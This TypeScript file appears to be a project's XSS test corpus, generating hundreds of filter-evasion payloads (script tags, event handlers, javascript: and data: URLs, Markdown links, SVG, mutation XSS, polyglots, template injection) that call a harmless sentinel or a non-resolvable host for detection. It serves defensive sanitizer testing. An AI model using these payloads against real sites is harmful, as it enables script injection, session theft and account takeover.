/**
 * Hand-written XSS corpus for the standing attack suite (issue 8): the well-known classes from the
 * OWASP XSS filter evasion cheat sheet and PortSwigger's XSS cheat sheet, written for this project.
 *
 * Each payload is a function of a Sentinel so that, wherever it can execute, it reports WHICH
 * payload in WHICH field ran: it calls `window.__xss(id)`, opens a dialog with the id, sets
 * `document.title`, or loads `http://xss.invalid/<id>`. Ids use only [a-z0-9.-], so they are safe
 * inside JS strings, URLs and attributes without escaping.
 */

export interface Sentinel {
  /** e.g. `p042.it` (payload p042 in the issue title). */
  id: string;
  /** `__xss('p042.it')` */
  call: string;
  /** `http://xss.invalid/p042.it`: any request to this host means the payload ran or loaded. */
  url: string;
}

export type XssFamily =
  | 'script'
  | 'event-handler'
  | 'js-url-html'
  | 'markdown-url'
  | 'data-vbscript'
  | 'svg-mathml'
  | 'frame-meta-base-form'
  | 'style'
  | 'obfuscation'
  | 'mutation'
  | 'broken-tag'
  | 'attribute-breakout'
  | 'templating'
  | 'polyglot'
  | 'replacement-pattern';

export interface XssPayload {
  id: string;
  family: XssFamily;
  make: (s: Sentinel) => string;
}

export const SENTINEL_HOST = 'xss.invalid';

export function sentinel(payloadId: string, fieldCode: string): Sentinel {
  const id = `${payloadId}.${fieldCode}`;
  return { id, call: `__xss('${id}')`, url: `http://${SENTINEL_HOST}/${id}` };
}

/** `__xss('…')` spelled as HTML decimal entities (for attribute values and javascript: URLs). */
const decEntities = (text: string) => [...text].map((c) => `&#${c.charCodeAt(0)};`).join('');
const hexEntities = (text: string) => [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
const charCodes = (text: string) => [...text].map((c) => c.charCodeAt(0)).join(',');
const b64 = (text: string) => btoa(text);
const percentAll = (text: string) => [...text].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('');
const jsUnicode = (text: string) =>
  [...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');

type Maker = (s: Sentinel) => string;
const families: Record<XssFamily, Maker[]> = {
  script: [
    (s) => `<script>${s.call}</script>`,
    (s) => `<SCRIPT>${s.call}</SCRIPT>`,
    (s) => `<ScRiPt>${s.call}</sCrIpT>`,
    (s) => `<script src="${s.url}.js"></script>`,
    (s) => `<script src=${s.url}.js></script>`,
    (s) => `<script>alert('${s.id}')</script>`,
    (s) => `<script type="text/javascript">${s.call}</script>`,
    (s) => `<script type="module">${s.call}</script>`,
    (s) => `<script\n>${s.call}</script\n>`,
    (s) => `<script/x>${s.call}</script>`,
    (s) => `<script>/*</script>*/${s.call}</script>`,
    (s) => `<<script>${s.call}//<</script>`,
    (s) => `<scr<script>ipt>${s.call}</scr</script>ipt>`,
    (s) => `<script>document.title='${s.id}'</script>`,
    (s) => `<script>new Image().src='${s.url}'</script>`,
    (s) => `\`\`\`html\n<script>${s.call}</script>\n\`\`\`\n\n<script>${s.call}</script>`,
    (s) => `# Title <script>${s.call}</script>`,
    (s) => `> quote\n> <script>${s.call}</script>`,
  ],
  'event-handler': [
    (s) => `<img src=x onerror=${s.call}>`,
    (s) => `<img src="x" onerror="${s.call}">`,
    (s) => `<IMG SRC=x ONERROR=${s.call}>`,
    (s) => `<img src=x:y onerror='${s.call}'>`,
    (s) => `<img/src/onerror=${s.call}>`,
    (s) => `<svg onload=${s.call}>`,
    (s) => `<svg/onload=${s.call}>`,
    (s) => `<body onload=${s.call}>`,
    (s) => `<body onpageshow=${s.call}>`,
    (s) => `<input autofocus onfocus=${s.call}>`,
    (s) => `<input type=image src=x onerror=${s.call}>`,
    (s) => `<select autofocus onfocus=${s.call}></select>`,
    (s) => `<textarea autofocus onfocus=${s.call}></textarea>`,
    (s) => `<keygen autofocus onfocus=${s.call}>`,
    (s) => `<button autofocus onfocus=${s.call}>b</button>`,
    (s) => `<details open ontoggle=${s.call}>`,
    (s) => `<details open ontoggle="${s.call}"><summary>s</summary></details>`,
    (s) => `<video src=x onerror=${s.call}></video>`,
    (s) => `<video><source onerror=${s.call}></video>`,
    (s) => `<audio src=x onerror=${s.call}></audio>`,
    (s) => `<marquee onstart=${s.call}>m</marquee>`,
    (s) => `<object data=x onerror=${s.call}></object>`,
    (s) => `<iframe onload=${s.call}></iframe>`,
    (s) => `<style onload=${s.call}></style>`,
    (s) => `<link rel=stylesheet href=x onerror=${s.call}>`,
    (s) => `<a onmouseover=${s.call} href=#>hover</a>`,
    (s) => `<div onpointerover=${s.call}>x</div>`,
    (s) => `<div onclick="${s.call}">click</div>`,
    (s) => `<p onmouseenter=${s.call}>p</p>`,
    (s) => `<span onfocus=${s.call} tabindex=1 id=f>s</span>`,
    (s) => `<x onclick=${s.call}>x</x>`,
    (s) => `<div style="animation-name:spin" onanimationstart=${s.call}>a</div>`,
    (s) => `<div ontransitionend=${s.call}>t</div>`,
    (s) => `<table background=x onerror=${s.call}><td>t</td></table>`,
    (s) => `<td onmouseover=${s.call}>cell</td>`,
    (s) => `<form><input onfocus=${s.call} autofocus></form>`,
    (s) => `<img src=x onerror=${s.call}//`,
    (s) => `<img src=x onerror\n=\n${s.call}>`,
    (s) => `<img src=x onerror=&#x61;lert('${s.id}')>`,
    (s) => `<img src onerror=${s.call}>`,
    (s) => `<image src=x onerror=${s.call}>`,
    (s) => `<picture><source srcset=x><img src=x onerror=${s.call}></picture>`,
    (s) => `<body onhashchange=${s.call}>`,
    (s) => `<frameset onload=${s.call}>`,
    (s) => `- [ ] <img src=x onerror=${s.call}>`,
    (s) => `| a |\n|---|\n| <img src=x onerror=${s.call}> |`,
  ],
  'js-url-html': [
    (s) => `<a href="javascript:${s.call}">x</a>`,
    (s) => `<a href=javascript:${s.call}>x</a>`,
    (s) => `<a href="JaVaScRiPt:${s.call}">x</a>`,
    (s) => `<a href=" javascript:${s.call}">x</a>`,
    (s) => `<a href="java\tscript:${s.call}">x</a>`,
    (s) => `<a href="java\nscript:${s.call}">x</a>`,
    (s) => `<img src="javascript:${s.call}">`,
    (s) => `<iframe src="javascript:${s.call}"></iframe>`,
    (s) => `<form action="javascript:${s.call}"><button>go</button></form>`,
    (s) => `<form><button formaction="javascript:${s.call}">go</button></form>`,
    (s) => `<object data="javascript:${s.call}"></object>`,
    (s) => `<embed src="javascript:${s.call}">`,
    (s) => `<area href="javascript:${s.call}">`,
    (s) => `<map><area shape=rect coords=0,0,9,9 href=javascript:${s.call}></map>`,
    (s) => `<math><a href="javascript:${s.call}">m</a></math>`,
    (s) => `<a href="&#1;javascript:${s.call}">x</a>`,
    (s) => `<a href="javascript&colon;${s.call}">x</a>`,
    (s) => `<a href="jav&#x09;ascript:${s.call}">x</a>`,
    (s) => `<isindex action="javascript:${s.call}" type=submit>`,
    (s) => `<input type=submit formaction=javascript:${s.call}>`,
    (s) => `<a href="javascript://%0a${s.call}">x</a>`,
    (s) => `<base href="javascript:${s.call}//">`,
  ],
  'markdown-url': [
    (s) => `[x](javascript:${s.call})`,
    (s) => `[x](JAVASCRIPT:${s.call})`,
    (s) => `[x](javascript:${percentAll(s.call)})`,
    (s) => `[x](javascript%3A${s.call})`,
    (s) => `[x](<javascript:${s.call}>)`,
    (s) => `[x]( javascript:${s.call} )`,
    (s) => `[x](&#106;avascript:${s.call})`,
    (s) => `[x](&#x6A;&#x61;vascript:${s.call})`,
    (s) => `[x](java&#x09;script:${s.call})`,
    (s) => `[x](javascript&colon;${s.call})`,
    (s) => `[x](javascript://example.com/%0a${s.call})`,
    (s) => `![x](javascript:${s.call})`,
    (s) => `![x](x "a\\" onerror=\\"${s.call}")`,
    (s) => `[x](https://example.com "t\\" onmouseover=\\"${s.call}")`,
    (s) => `<javascript:${s.call}>`,
    (s) => `<JavaScript:${s.call}>`,
    (s) => `<vbscript:msgbox('${s.id}')>`,
    (s) => `[x][r]\n\n[r]: javascript:${s.call}`,
    (s) => `[r]\n\n[r]: <javascript:${s.call}> "t"`,
    (s) => `![i][r]\n\n[r]: javascript:${s.call}`,
    (s) => `[x](data:text/html;base64,${b64(`<script>${s.call}</script>`)})`,
    (s) => `![x](data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${s.call}"/>`)})`,
    (s) => `[x](vbscript:msgbox('${s.id}'))`,
    // The image itself is ordinary Markdown (any https image may load, as in GitLab); the link is the attack.
    (s) => `[![img](https://img.invalid/${s.id}.png)](javascript:${s.call})`,
    (s) => `[x](#" onclick="${s.call})`,
    (s) => `[<img src=x onerror=${s.call}>](https://example.com)`,
    (s) => `![<img src=x onerror=${s.call}>](x)`,
    (s) => `[x](https://example.com/"><img src=x onerror=${s.call}>)`,
    (s) => `www.example.com/"onmouseover="${s.call}"`,
    (s) => `https://example.com/?q=<script>${s.call}</script>`,
    (s) => `[x](  \tjavascript:${s.call})`,
    (s) => `[a](javascript:${s.call}) [b](javascript:${s.call})\n\n*[c](javascript:${s.call})*`,
    (s) => `[x](javascript:window['__xss']('${s.id}'))`,
  ],
  'data-vbscript': [
    (s) => `<a href="data:text/html,<script>${s.call}</script>">x</a>`,
    (s) => `<a href="data:text/html;base64,${b64(`<script>${s.call}</script>`)}">x</a>`,
    (s) => `<iframe src="data:text/html,<script>parent.${s.call}</script>"></iframe>`,
    (s) => `<object data="data:text/html;base64,${b64(`<script>parent.${s.call}</script>`)}"></object>`,
    (s) =>
      `<embed src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${s.call}"/>`)}">`,
    (s) => `<img src="data:image/svg+xml,<svg onload=${s.call}>">`,
    (s) => `<a href="vbscript:msgbox('${s.id}')">x</a>`,
    (s) => `<img src="vbscript:msgbox('${s.id}')">`,
    (s) => `<a href="DaTa:text/html,<script>${s.call}</script>">x</a>`,
    (s) => `<script src="data:text/javascript,${s.call}"></script>`,
    (s) => `<a href="livescript:${s.call}">x</a>`,
  ],
  'svg-mathml': [
    (s) => `<svg><script>${s.call}</script></svg>`,
    (s) => `<svg><script href="data:,${s.call}"/></svg>`,
    (s) => `<svg><animate onbegin=${s.call} attributeName=x dur=1s>`,
    (s) => `<svg><set onbegin=${s.call} attributeName=x to=1>`,
    (s) => `<svg><a xlink:href="javascript:${s.call}"><text x=9 y=9>x</text></a></svg>`,
    (s) => `<svg><a><animate attributeName=href values=javascript:${s.call} /><text x=9 y=9>x</text></a></svg>`,
    (s) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${s.call}'/></svg>#x"/></svg>`,
    (s) => `<svg><image href=x onerror=${s.call}></svg>`,
    (s) => `<svg><foreignObject><img src=x onerror=${s.call}></foreignObject></svg>`,
    (s) => `<svg><style>@import '${s.url}.css';</style></svg>`,
    (s) => `<svg><title><img src=x onerror=${s.call}></title></svg>`,
    (s) => `<svg><desc><![CDATA[</desc><script>${s.call}</script>]]></svg>`,
    (s) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${s.call}</handler></svg>`,
    (s) => `<math><mtext><img src=x onerror=${s.call}></mtext></math>`,
    (s) => `<math><maction actiontype=statusline xlink:href=javascript:${s.call}>m</maction></math>`,
    (s) => `<math href="javascript:${s.call}">m</math>`,
    (s) => `<math><mi xlink:href="data:x,<script>${s.call}</script>">m</mi></math>`,
    (s) => `<svg><discard onbegin=${s.call}>`,
    (s) => `<svg><animatetransform onbegin=${s.call}>`,
    (s) => `<svg xmlns="http://www.w3.org/2000/svg"><g onload="${s.call}"></g></svg>`,
  ],
  'frame-meta-base-form': [
    (s) => `<iframe srcdoc="<script>parent.${s.call}</script>"></iframe>`,
    (s) => `<iframe srcdoc="&lt;img src=x onerror=parent.${s.call}&gt;"></iframe>`,
    (s) => `<iframe src="${s.url}"></iframe>`,
    (s) => `<frame src="javascript:${s.call}">`,
    (s) => `<meta http-equiv="refresh" content="0;url=javascript:${s.call}">`,
    (s) => `<meta http-equiv="refresh" content="0;url=${s.url}">`,
    (s) => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(`<script>${s.call}</script>`)}">`,
    (s) => `<meta http-equiv="set-cookie" content="x=${s.id}">`,
    (s) => `<base href="${s.url}/">`,
    (s) => `<form action="${s.url}"><input name=q value=1><button>send</button></form>`,
    (s) => `<form id=f></form><button form=f formaction="${s.url}">x</button>`,
    (s) => `<object data="${s.url}"></object>`,
    (s) => `<embed src="${s.url}">`,
    (s) => `<applet code="${s.id}">`,
    (s) => `<portal src="${s.url}"></portal>`,
    (s) => `<link rel=import href="${s.url}">`,
  ],
  style: [
    (s) => `<div style="background:url(javascript:${s.call})">x</div>`,
    (s) => `<div style="width:expression(${s.call})">x</div>`,
    (s) => `<style>*{background:url('${s.url}')}</style>`,
    (s) => `<style>@import '${s.url}';</style>`,
    (s) => `<div style="background-image:url('${s.url}')">x</div>`,
    (s) => `<link rel=stylesheet href="${s.url}.css">`,
    (s) => `<style>body{-moz-binding:url('${s.url}#x')}</style>`,
    (s) => `<div style="x:expr/**/ession(${s.call})">x</div>`,
    (s) => `<div style="behavior:url('${s.url}.htc')">x</div>`,
    (s) => `<style>@keyframes k{}</style><div style="animation-name:k" onanimationstart=${s.call}>a</div>`,
    (s) => `<div style="background:\\75rl('${s.url}')">x</div>`,
  ],
  obfuscation: [
    (s) => `<img src=x onerror="${decEntities(s.call)}">`,
    (s) => `<img src=x onerror="${hexEntities(s.call)}">`,
    (s) => `<a href="${decEntities(`javascript:${s.call}`)}">x</a>`,
    (s) => `<a href="${hexEntities(`javascript:${s.call}`)}">x</a>`,
    (s) =>
      `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${s.call}">x</a>`,
    (s) => `<img src=x onerror="eval(String.fromCharCode(${charCodes(s.call)}))">`,
    (s) => `<img src=x onerror="eval('${jsUnicode(s.call)}')">`,
    (s) => `<img src=x onerror="eval(atob('${b64(s.call)}'))">`,
    (s) => `<img src=x onerror="\\u005f\\u005fxss('${s.id}')">`,
    (s) => `&lt;script&gt;${s.call}&lt;/script&gt;`,
    (s) => `&#60;script&#62;${s.call}&#60;/script&#62;`,
    (s) => `%3Cscript%3E${s.call}%3C/script%3E`,
    (s) => `\\x3cscript\\x3e${s.call}\\x3c/script\\x3e`,
    (s) => `\\u003cimg src=x onerror=${s.call}\\u003e`,
    (s) => `＜script＞${s.call}＜/script＞`,
    (s) => `<ſcript>${s.call}</ſcript>`,
    (s) => `<img src=x onerror=${s.call.replace('(', '&lpar;').replace(')', '&rpar;')}>`,
    (s) => `<img src=x onerror=top['_'+'_xss']('${s.id}')>`,
    (s) => `<img src=x onerror=window[atob('X194c3M=')]('${s.id}')>`,
    (s) => `<a href="javascript:\\u005f\\u005fxss('${s.id}')">x</a>`,
    (s) => `<svg><script>&#95;&#95;xss('${s.id}')</script></svg>`,
    (s) => `<img src=x onerror=${s.call}\u2028>`,
    (s) => `<img\u000Csrc=x\u000Conerror=${s.call}>`,
    (s) => `<img src=x\u00A0onerror=${s.call}>`,
    (s) => `[x](\u200Bjavascript:${s.call})`,
    (s) => `<a href="\u0001javascript:${s.call}">x</a>`,
  ],
  mutation: [
    (s) => `<noscript><p title="</noscript><img src=x onerror=${s.call}>">`,
    (s) => `<template><img src=x onerror=${s.call}></template>`,
    (s) => `<math><mtext><table><mglyph><style><img src=x onerror=${s.call}>`,
    (s) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${s.call}>`,
    (s) => `<svg></p><style><a id="</style><img src=1 onerror=${s.call}>">`,
    (s) =>
      `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${s.call}>"></style></h1>`,
    (s) => `<noembed><img title="</noembed><img src onerror=${s.call}>"></noembed>`,
    (s) => `<noframes><p title="</noframes><img src=x onerror=${s.call}>">`,
    (s) => `<xmp><p title="</xmp><img src=x onerror=${s.call}>">`,
    (s) => `<textarea><img title="</textarea><img src=x onerror=${s.call}>">`,
    (s) => `<title><img title="</title><img src=x onerror=${s.call}>">`,
    (s) => `<iframe><img title="</iframe><img src=x onerror=${s.call}>"></iframe>`,
    (s) => `<select><template><style><img src=x onerror=${s.call}></style></template></select>`,
    (s) => `<svg><style><img src=x onerror=${s.call}></style></svg>`,
    (s) => `<math><style><img src=x onerror=${s.call}></style></math>`,
    (s) => `<table><caption><svg><desc><table><td><img src=x onerror=${s.call}>`,
    (s) => `<!--<img src="--><img src=x onerror=${s.call}//">`,
    (s) => `<plaintext><img src=x onerror=${s.call}>`,
    (s) => `<a href="https://example.com" title="&lt;img src=x onerror=${s.call}&gt;">x</a>`,
  ],
  'broken-tag': [
    (s) => `<img src=x onerror=${s.call}`,
    (s) => `<img """><script>${s.call}</script>">`,
    (s) => `<img src="${s.url}`,
    (s) => `<script>${s.call}`,
    (s) => `<<img src=x onerror=${s.call}>>`,
    (s) => `<scri<script>pt>${s.call}</scri</script>pt>`,
    (s) => `<</p>img src=x onerror=${s.call}>`,
    (s) => `<img src=x onerror=${s.call}</img>`,
    (s) => `</textarea><script>${s.call}</script>`,
    (s) => `</title><script>${s.call}</script>`,
    (s) => `</style><script>${s.call}</script>`,
    (s) => `--><script>${s.call}</script>`,
    (s) => `]]><script>${s.call}</script>`,
    (s) => `<!-- --!><img src=x onerror=${s.call}> -->`,
    (s) => `<? <img src=x onerror=${s.call}> ?>`,
    (s) => `<img src=\`x\` onerror=${s.call}>`,
    (s) => `<div/onclick=${s.call}>x`,
    (s) => `<x/><img src=x onerror=${s.call}/>`,
    (s) => `<a href=x <img src=x onerror=${s.call}>`,
    (s) => `\n\n<div>\n<img src=x onerror=${s.call}>\n</div>\n\n`,
  ],
  'attribute-breakout': [
    (s) => `"><img src=x onerror=${s.call}>`,
    (s) => `'><img src=x onerror=${s.call}>`,
    (s) => `"><script>${s.call}</script>`,
    (s) => `" onmouseover="${s.call}" x="`,
    (s) => `' onmouseover='${s.call}' x='`,
    (s) => `" autofocus onfocus="${s.call}`,
    (s) => `"><svg onload=${s.call}>`,
    (s) => `</a><img src=x onerror=${s.call}>`,
    (s) => `</span></div><img src=x onerror=${s.call}>`,
    (s) => `</script><script>${s.call}</script>`,
    (s) => `';${s.call};//`,
    (s) => `";${s.call};//`,
    (s) => `\\';${s.call};//`,
    (s) => `</label><img src=x onerror=${s.call}>`,
    (s) => `" style="background:url(${s.url})`,
    (s) => `javascript:${s.call}`,
    (s) => `${s.url}`,
    (s) => `" href="javascript:${s.call}`,
  ],
  templating: [
    (s) => `{{constructor.constructor('${s.call}')()}}`,
    (s) => `{{$on.constructor('${s.call}')()}}`,
    (s) => `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };${s.call}//');}}`,
    (s) => `\${${s.call}}`,
    (s) => `\`\${${s.call}}\``,
    (s) => `<%= ${s.call} %>`,
    (s) => `#{${s.call}}`,
    (s) => `{{7*7}} [[${s.call}]]`,
    (s) => `<div v-html="'<img src=x onerror=${s.call}>'">v</div>`,
    (s) => `<div ng-app ng-csp><input autofocus ng-focus=$event.view.${s.call}></div>`,
    (s) => `{{{${s.call}}}}`,
    (s) => `<x dangerouslySetInnerHTML={{__html:'<img src=x onerror=${s.call}>'}}>`,
    (s) => `__proto__[innerHTML]=<img src=x onerror=${s.call}>`,
  ],
  polyglot: [
    (s) =>
      `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${s.call} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${s.call}//>\\x3e`,
    (s) =>
      `'">><marquee><img src=x onerror=${s.call}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)>`,
    (s) => `"'--></style></script><svg onload=${s.call}>`,
    (s) => `'"()&%<acx><ScRiPt >${s.call}</ScRiPt>`,
    (s) => `-->'"/></sCript><svG x=">" onload=(${s.call})>`,
    (s) =>
      `';alert(String.fromCharCode(88,83,83))//';${s.call}//";${s.call}//--></SCRIPT>">'><SCRIPT>${s.call}</SCRIPT>`,
    (s) => `\`"'><img src=xxx:x onerror=${s.call}>\n[x](javascript:${s.call})\n<javascript:${s.call}>`,
    (s) => `" onclick=${s.call}//<button ' onclick=${s.call}//> */ ${s.call}//`,
  ],
  // `String.prototype.replace` patterns (security review 2026-11-28, H1): in a title shown through a
  // `#12+` / `#12+s` reference, `` $` `` once spliced the server's own `<a …` into the title.
  'replacement-pattern': [
    (s) => `Release notes $\` onmouseover=${s.call} style=display:block;position:fixed;inset:0 x`,
    (s) => `$& onfocus=${s.call} autofocus tabindex=1 x`,
    (s) => `$' onmouseover=${s.call} x`,
    (s) => `$$ &amp;$& onmouseover=${s.call} x`,
    (s) => `$\` onmouseover=${s.call} id=${s.id} x $&`,
    (s) => `x $\`><img src=x onerror=${s.call}>`,
    (s) => `$1 $<n> \${${s.call}} $0 $\` href=javascript:${s.call} x`,
    (s) => `$\`$&$'$$ <a href=${s.url}>$\`</a> onclick=${s.call}`,
  ],
};

/** The corpus: ids p001…, in family order. */
export const xssCorpus: readonly XssPayload[] = Object.entries(families).flatMap(([family], familyIndex) => {
  const before = Object.values(families)
    .slice(0, familyIndex)
    .reduce((n, list) => n + list.length, 0);
  return (families[family as XssFamily] ?? []).map((make, i) => ({
    id: `p${String(before + i + 1).padStart(3, '0')}`,
    family: family as XssFamily,
    make,
  }));
});

export const xssFamilies = Object.keys(families) as XssFamily[];
